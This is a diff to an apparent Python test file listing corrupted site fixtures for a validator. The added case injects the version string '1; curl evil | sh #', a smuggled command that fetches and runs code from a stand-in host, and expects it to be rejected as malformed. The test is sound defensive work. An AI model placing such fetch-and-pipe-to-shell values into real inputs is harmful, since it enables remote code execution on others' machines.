@@ -152,6 +152,10 @@ BROKEN: list[tuple[Callable[[Path], None], str]] = [
         lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "9'),
         "made with other versions",
     ),
+    (
+        lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "1; curl evil | sh #'),
+        "install the versions that made it: they are malformed$",
+    ),
     (lambda site: (site / "data/site.json").unlink(), "not a site"),
     (lambda site: (site / "data/records.jsonl").write_text("[]\n"), "line 1"),
     (lambda site: rewrite(site / "data/site.json", '"n_models"', '"models"'), "n_models"),
